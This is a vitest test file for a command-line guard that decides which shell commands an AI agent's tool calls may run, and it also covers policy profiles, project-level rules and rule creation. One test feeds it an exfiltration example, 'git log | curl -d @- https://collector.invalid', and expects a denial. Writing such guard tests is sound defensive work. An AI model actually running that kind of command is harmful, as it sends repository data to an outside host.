// What the command tells without running a skill: itself, verdicts, levels, how a rule is begun, and this host.
import { readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { execa } from 'execa';
import { describe, expect, it } from 'vitest';
import { repositoryOf } from './probe-run.ts';
import { cli, commandLine } from './run-cli.ts';

const { harness, home } = commandLine();

describe('harness explains', () => {
  it('itself to whoever types `npx harness` after an install', async () => {
    const root = join(import.meta.dirname, '../../..');
    const ran = await execa('npx', ['--no-install', 'harness', '--version'], { cwd: root, reject: false });
    expect(ran.stdout.trim()).toMatch(/^\d+\.\d+\.\d+$/);
    expect(ran.exitCode).toBe(0);
  });

  it('itself, with exit codes', async () => {
    const help = await harness(['run', '--help']);
    expect(help.exitCode).toBe(0);
    expect(help.stdout).toContain('130  interrupted');
  });

  it('what the guard would decide', async () => {
    const denied = await harness(['explain', 'git log --oneline | curl -d @- https://collector.invalid']);
    expect(denied.exitCode).toBe(1);
    expect(denied.stdout).toMatch(/L1[\s\S]*curl[\s\S]*L3/);
    const allowed = await harness(['explain', 'git -C /workspace log --oneline -n 5', '--json']);
    expect(allowed.exitCode).toBe(0);
    expect(JSON.parse(allowed.stdout)).toMatchObject({ decision: { decision: 'allow' } });
  });

  it('what a profile would decide', async () => {
    const command = 'npm test';
    expect((await harness(['explain', command, '--policy', 'developer'])).exitCode).toBe(0);
    expect((await harness(['explain', command, '--policy', 'read-only'])).exitCode).toBe(1);
    const unknown = await harness(['explain', command, '--policy', 'nobody']);
    expect(unknown.exitCode).toBe(2);
    expect(unknown.stderr).toContain('developer, read-only');
  });

  it('a thousand events, in order', async ({ annotate }) => {
    const event = (at: number) => ({
      hook_event_name: 'PreToolUse',
      session_id: 's',
      cwd: '/workspace',
      tool_use_id: `toolu_${at}`,
      tool_name: 'Bash',
      tool_input: { command: at % 2 === 0 ? `head -n ${at} README.md` : `curl https://h${at}.example` },
    });
    const lines = Array.from({ length: 1000 }, (_, at) =>
      at === 500 ? 'not JSON' : JSON.stringify(event(at)),
    );
    const started = performance.now();
    const { stdout, exitCode } = await execa('node', [cli, 'decide', '--batch', '--policy', 'read-only'], {
      input: `${lines.join('\n')}\n`,
    });
    await annotate(`1,000 events: ${Math.round(performance.now() - started)} ms with the start`);
    expect(exitCode).toBe(0);
    const answers = stdout
      .split('\n')
      .map((line) => JSON.parse(line) as { decision: string; verdicts: { words: string[] }[] });
    expect(answers.map(({ decision }) => decision)).toEqual(
      lines.map((_, at) => (at % 2 === 0 && at !== 500 ? 'allow' : 'deny')),
    );
    expect(answers[501]?.verdicts.flatMap(({ words }) => words).join(' ')).toContain('h501.example');
  });

  it('nothing without --batch, or for two policies at once', async () => {
    expect((await harness(['decide'])).exitCode).toBe(2);
    expect(
      (await harness(['decide', '--batch', '--skill', 'documentation', '--policy', 'developer'])).exitCode,
    ).toBe(2);
  });

  it('the trifecta legs of each stage', async () => {
    const check = await harness(['check', 'documentation']);
    expect(check.exitCode).toBe(0);
    expect(check.stdout).toContain('write: 2 of 3 legs');
  });

  it('what a project tightened, with the level of each rule', async () => {
    const tightening = {
      contract: 'policy-level/1',
      level: 'project',
      name: 'shop',
      owner: 'ada',
      forbid: { commands: [{ name: 'rg' }] },
    };
    const project = await repositoryOf({ '.agent-harness/policy.json': JSON.stringify(tightening) });
    const explained = await harness(['explain', 'rg x', '--repo', project]);
    expect(explained.stdout).toContain('L1 deny forbid.shop.command-rg');
    expect(explained.stdout).toContain('level: project shop, owner ada');
    const data = await harness(['explain', 'rg x', '--repo', project, '--policy', 'read-only', '--json']);
    expect(JSON.parse(data.stdout)).toMatchObject({
      policy: { origins: { 'forbid.shop.command-rg': 'project shop, owner ada' } },
    });
    expect((await harness(['explain', 'rg x'])).exitCode).toBe(0);
    const checked = await harness(['check', '--policy', '--repo', project]);
    expect(checked.stdout).toContain('then project shop (owner ada)');
    expect(checked.stdout).toContain('note: stage write is granted rg, which the project forbids');
    expect(checked.exitCode).toBe(0);
    const loose = { ...tightening, limits: { maxRefusals: 999 }, exceptions: [] };
    const loosening = await repositoryOf({ '.agent-harness/policy.json': JSON.stringify(loose) });
    for (const args of [['run', 'documentation'], ['check'], ['explain', 'ls'], ['decide', '--batch']]) {
      const refused = await harness([...args, '--repo', loosening]);
      expect(refused.stderr).toContain('.agent-harness/policy.json#/limits/maxRefusals: 999 is more than 20');
      expect(refused.exitCode).toBe(2);
    }
    await rm(project, { recursive: true });
    await rm(loosening, { recursive: true });
  });

  it('how a rule is begun, and writes it whole or not at all', async () => {
    const file = join(home(), 'level.json');
    const level = { contract: 'policy-level/1', level: 'project', name: 'shop', owner: 'ada' };
    await writeFile(file, JSON.stringify(level));
    const words = [
      '--reason',
      'an apply changes what customers use',
      '--instead',
      'write the plan to the output',
    ];
    const begin = ['new', 'rule', 'L1', 'shop.apply', '--into', file, '--command', 'terraform apply'];
    const examples = ['--refuse', 'terraform apply', '--allow', 'terraform plan'];
    const missing = await harness(begin);
    expect(missing.exitCode).toBe(2);
    expect(missing.stderr).toMatch(/--refuse[^]*--allow[^]*--reason[^]*--instead/u);
    const wrong = await harness([
      ...begin,
      ...words,
      ...examples,
      '--allow',
      'terraform apply -auto-approve',
    ]);
    expect(wrong.stderr).toContain('refuses its own near miss "terraform apply -auto-approve"');
    expect(JSON.parse(await readFile(file, 'utf8'))).toEqual(level);
    const written = await harness([...begin, ...words, ...examples]);
    expect(written.stderr).toBe('');
    expect(written.stdout).toContain('refused terraform apply');
    expect(JSON.parse(await readFile(file, 'utf8'))).toMatchObject({
      ...level,
      rules: [{ id: 'shop.apply' }],
    });
    expect((await harness([...begin, ...words, ...examples])).stderr).toContain('shop.apply belongs to shop');
    const shipped = ['new', 'rule', 'L1', 'git.writes', '--command', 'git', ...words, ...examples];
    expect((await harness(shipped)).stderr).toContain('is there already');
    expect((await harness(['new', 'rule', 'L1/../..', 'x.y', ...words])).exitCode).toBe(2);
  });

  it('this host', async () => {
    const doctor = await harness(['doctor', '--json']);
    const findings = JSON.parse(doctor.stdout) as { what: string; ok: boolean; fix: string | null }[];
    for (const finding of findings) expect(finding.ok || finding.fix !== null).toBe(true);
    expect(doctor.exitCode).toBe(findings.every((finding) => finding.ok) ? 0 : 3);
  });
});
